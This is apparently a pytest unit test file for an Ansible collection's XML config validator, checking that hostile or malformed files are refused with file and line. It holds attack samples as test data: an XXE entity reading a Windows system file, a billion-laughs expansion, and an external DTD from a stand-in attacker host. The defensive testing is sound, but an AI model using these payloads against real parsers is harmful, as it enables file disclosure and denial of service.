"""Hostile and malformed XML is refused with its file and line: DTDs, entities, external references, encodings, empty, huge and truncated files."""

from __future__ import annotations

import pytest

from ansible_collections.exchange_dr.recovery.plugins.plugin_utils._email_agent_files import CONFIG_FILE, STATE_FILE
from ansible_collections.exchange_dr.recovery.plugins.plugin_utils._email_agent_validate import validate_set
from tests.unit.plugins.plugin_utils.email_agent_samples import GOOD, STATE, errors, only_error

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Configuration [
  <!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">
]>
<Configuration><SystemConfiguration><LogFile>&xxe;</LogFile></SystemConfiguration></Configuration>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Configuration>&lol9;</Configuration>"""

EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE Configuration SYSTEM "http://attacker.example/evil.dtd">\n<Configuration/>'


@pytest.mark.parametrize(("data", "line"), [(XXE, 2), (BILLION_LAUGHS, 2), (EXTERNAL_DTD, 2)])
def test_dtds_entities_and_external_references_are_refused_with_their_line(data, line):
    issue = only_error(validate_set({CONFIG_FILE: data}))
    assert issue.file == CONFIG_FILE
    assert issue.line == line
    assert "not allowed" in issue.message


def test_entity_reference_without_declaration_is_not_well_formed():
    issue = only_error(validate_set({CONFIG_FILE: b"<Configuration>\n<SystemConfiguration>&xxe;</SystemConfiguration></Configuration>"}))
    assert issue.line == 2 and "not well-formed" in issue.message


@pytest.mark.parametrize(
    "data",
    [
        GOOD.replace(b'encoding="utf-8"', b'encoding="utf-16"').decode().encode("utf-16"),  # UTF-16 with BOM
        b"\xef\xbb\xbf" + GOOD,  # UTF-8 with BOM
        GOOD.replace(b"alice", "al\u00efce".encode()).replace(b'encoding="utf-8"', b'encoding="windows-1252"').decode().encode("cp1252"),
        GOOD.replace(b"alice", "al\u00efce".encode()).replace(b'encoding="utf-8"', b'encoding="iso-8859-1"').decode().encode("latin-1"),
    ],
    ids=["utf16-bom", "utf8-bom", "windows-1252", "latin-1"],
)
def test_declared_encodings_and_boms_are_read(data):
    report = validate_set({CONFIG_FILE: data, STATE_FILE: STATE})
    assert report.errors == [], errors(report)
    assert report.config.providers[0].get("EmailAddress") in ("alice@contoso.local", "al\u00efce@contoso.local")


def test_bytes_that_do_not_match_the_declared_encoding_are_an_error_with_a_line():
    data = b'<?xml version="1.0" encoding="utf-8"?>\n<Configuration>\n<SystemConfiguration><LogFile>caf\xe9</LogFile></SystemConfiguration></Configuration>'
    issue = only_error(validate_set({CONFIG_FILE: data}))
    assert issue.line == 3 and "not well-formed" in issue.message


def test_unsupported_multibyte_encoding_is_refused():
    data = b'<?xml version="1.0" encoding="shift_jis"?><Configuration/>'
    issue = only_error(validate_set({CONFIG_FILE: data}))
    assert "cannot be read" in issue.message


@pytest.mark.parametrize("data", [b"", b"   \r\n", b"\xef\xbb\xbf", "\ufeff".encode("utf-16-le")], ids=["empty", "blank", "bom-only", "utf16-bom-only"])
def test_empty_files(data):
    issue = only_error(validate_set({CONFIG_FILE: data}))
    assert "empty" in issue.message


def test_empty_system_state_is_the_root_element_missing_error():
    issue = only_error(validate_set({CONFIG_FILE: GOOD, STATE_FILE: b""}))
    assert issue.file == STATE_FILE and "Root element is missing" in issue.message


def test_huge_file_is_refused_before_parsing():
    data = b"<Configuration>" + b" " * 2048 + b"</Configuration>"
    issue = only_error(validate_set({CONFIG_FILE: data}, max_bytes=1024))
    assert "more than the limit of 1024 bytes" in issue.message


def test_truncated_file_names_the_line():
    issue = only_error(validate_set({CONFIG_FILE: GOOD[:-40]}))
    assert issue.file == CONFIG_FILE and issue.line is not None and "not well-formed" in issue.message
